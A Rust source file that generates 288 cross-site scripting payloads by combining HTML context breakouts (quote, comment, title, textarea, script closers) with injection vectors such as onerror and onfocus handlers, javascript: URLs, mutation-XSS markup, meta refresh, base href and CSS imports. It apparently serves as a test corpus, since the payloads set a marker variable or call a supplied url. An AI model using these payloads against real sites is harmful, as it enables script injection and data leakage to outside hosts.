//! What a stranger writes to have a page do something: every way out of where a text stands in HTML, with
//! every way to do something there.

/// Ways out: of an element's text, an attribute, a comment, and elements whose text is not parsed.
const WAYS_OUT: [&str; 12] = [
    "",
    "\">",
    "'>",
    "\" ",
    "' ",
    "--!>",
    "</title>",
    "</textarea>",
    "</style>",
    "</option></select>",
    "</script>",
    "]]>",
];

/// Ways to do something: to run a script, or to ask `{url}` for anything. `{mark}` is what a script sets.
const DEEDS: [&str; 24] = [
    "<script>{mark}</script>",
    "<ScRiPt/x>{mark}</sCrIpT >",
    "<script src={url}></script>",
    "<img src=x onerror={mark}>",
    "<img src=\"{url}\">",
    "<svg/onload={mark}>",
    "<svg><script>{mark}</script></svg>",
    "<iframe srcdoc=\"&lt;script>parent.{mark}&lt;/script>\"></iframe>",
    "<iframe src=\"javascript:parent.{mark}\"></iframe>",
    "<a href=\"javascript:{mark}\" autofocus onfocus={mark}>x</a>",
    "<input autofocus onfocus={mark}>",
    "<details open ontoggle={mark}>",
    "<body onpageshow={mark}>",
    "<meta http-equiv=refresh content=\"0;url={url}\">",
    "<base href=\"{url}\">",
    "<link rel=stylesheet href=\"{url}\">",
    "<style>@import '{url}';*{background:url({url})}</style>",
    "<object data=\"{url}\"></object>",
    "<video><source onerror={mark}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={mark}>",
    "<form action=\"{url}\"><button autofocus>x</button></form>",
    "<marquee onstart={mark}>x</marquee>",
    "onmouseover={mark} onfocus={mark} autofocus style=background:url({url}) x=",
    "javascript:{mark}//{{7*7}}${7*7}<%= 7*7 %>",
];

/// What scripts of payloads set, for a test to look at.
pub const MARK: &str = "window.formsvcRan";

/// Every way out with every deed: 288 payloads. Those that ask for something ask for `url`.
pub fn payloads(url: &str) -> Vec<String> {
    let mut payloads = Vec::with_capacity(WAYS_OUT.len() * DEEDS.len());
    for way_out in WAYS_OUT {
        for deed in DEEDS {
            let deed = deed.replace("{mark}", &format!("{MARK}=1")).replace("{url}", url);
            payloads.push(format!("{way_out}{deed}"));
        }
    }
    payloads
}
